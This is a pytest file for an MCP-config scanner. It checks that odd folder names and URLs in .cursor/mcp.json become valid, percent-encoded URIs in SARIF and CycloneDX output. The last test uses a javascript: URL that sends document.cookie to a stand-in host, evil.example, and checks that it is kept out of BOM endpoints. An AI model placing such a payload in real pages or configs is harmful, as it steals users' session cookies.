"""Names in a scanned tree and URLs in its configs become URIs in the documents other tools
read, and a document with one invalid URI may be refused whole. A folder named with a space,
"#", "%", "?" or a LF in the repository CI scans gave a SARIF artifact URI that is no URI
(Microsoft's validator: SARIF1002), and a remote server's URL with a control character gave a
CycloneDX service endpoint that fails the 1.6 schema (``iri-reference``), so a consumer that
validates the BOM (Dependency-Track does) refused every component of it. Both are now
percent-encoded."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any
from urllib.parse import unquote_to_bytes

import jsonschema
import pytest

CONFIG = {"mcpServers": {"files": {"command": "npx", "args": ["-y", "some-mcp"]}}}


def test_a_folder_name_gives_a_valid_sarif_uri(
    cli: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    tree = tmp_path / "repo"
    odd = Path(os.fsdecode(os.fsencode(tree) + b"/a b#c%zz?d\ne:f\xe9"))
    (odd / ".cursor").mkdir(parents=True)
    (odd / ".cursor" / "mcp.json").write_text(json.dumps(CONFIG), encoding="utf-8")
    monkeypatch.chdir(tree)  # CI scans the checkout it stands in: URIs relative to it
    out = tmp_path / "scan.sarif"
    result = cli("scan", "--only-paths", "--path", ".", "--format", "sarif", "--output", str(out))
    assert result.exit_code == 0, result.stderr
    uris = [
        location["physicalLocation"]["artifactLocation"]["uri"]
        for run_result in json.loads(out.read_text(encoding="utf-8"))["runs"][0]["results"]
        for location in run_result["locations"]
    ]
    assert uris
    checker = jsonschema.FormatChecker()
    for uri in uris:
        assert checker.conforms(uri, "uri-reference"), uri
        assert ":" not in uri.split("/", 1)[0]  # no first segment read as a scheme
        # The URI names the file: decoded, the folder's bytes as they are.
        assert unquote_to_bytes(uri) == b"a b#c%zz?d\ne:f\xe9/.cursor/mcp.json"


def test_a_url_with_a_control_character_leaves_the_bom_valid(cli: Any, tmp_path: Path) -> None:
    from cyclonedx.schema import SchemaVersion
    from cyclonedx.validation.json import JsonStrictValidator

    tree = tmp_path / "tree"
    (tree / ".cursor").mkdir(parents=True)
    servers = {"remote": {"url": "https://mcp.example.com/a b\x00<x>\ud800"}, **CONFIG["mcpServers"]}
    (tree / ".cursor" / "mcp.json").write_text(json.dumps({"mcpServers": servers}), encoding="utf-8")
    out = tmp_path / "bom.json"
    result = cli("scan", "--only-paths", "--path", str(tree), "--format", "cyclonedx", "--output", str(out))
    assert result.exit_code == 0, result.stderr
    text = out.read_text(encoding="utf-8")
    assert JsonStrictValidator(SchemaVersion.V1_6).validate_str(text) is None
    bom = json.loads(text)
    assert [s["endpoints"] for s in bom["services"]] == [["https://mcp.example.com/a%20b%00%3Cx%3E%EF%BF%BD"]]
    assert [c["name"] for c in bom["components"]] == ["some-mcp"]


def test_a_url_that_is_no_web_address_is_no_endpoint(cli: Any, tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    (tree / ".cursor").mkdir(parents=True)
    servers = {"remote": {"url": "javascript:fetch('//evil.example/'+document.cookie)"}}
    (tree / ".cursor" / "mcp.json").write_text(json.dumps({"mcpServers": servers}), encoding="utf-8")
    out = tmp_path / "bom.json"
    result = cli("scan", "--only-paths", "--path", str(tree), "--format", "cyclonedx", "--output", str(out))
    assert result.exit_code == 0, result.stderr
    [service] = json.loads(out.read_text(encoding="utf-8"))["services"]
    assert "endpoints" not in service  # a consumer makes links of endpoints
    assert {p["name"]: p["value"] for p in service["properties"]}["mcpward:url"].startswith("javascript:")
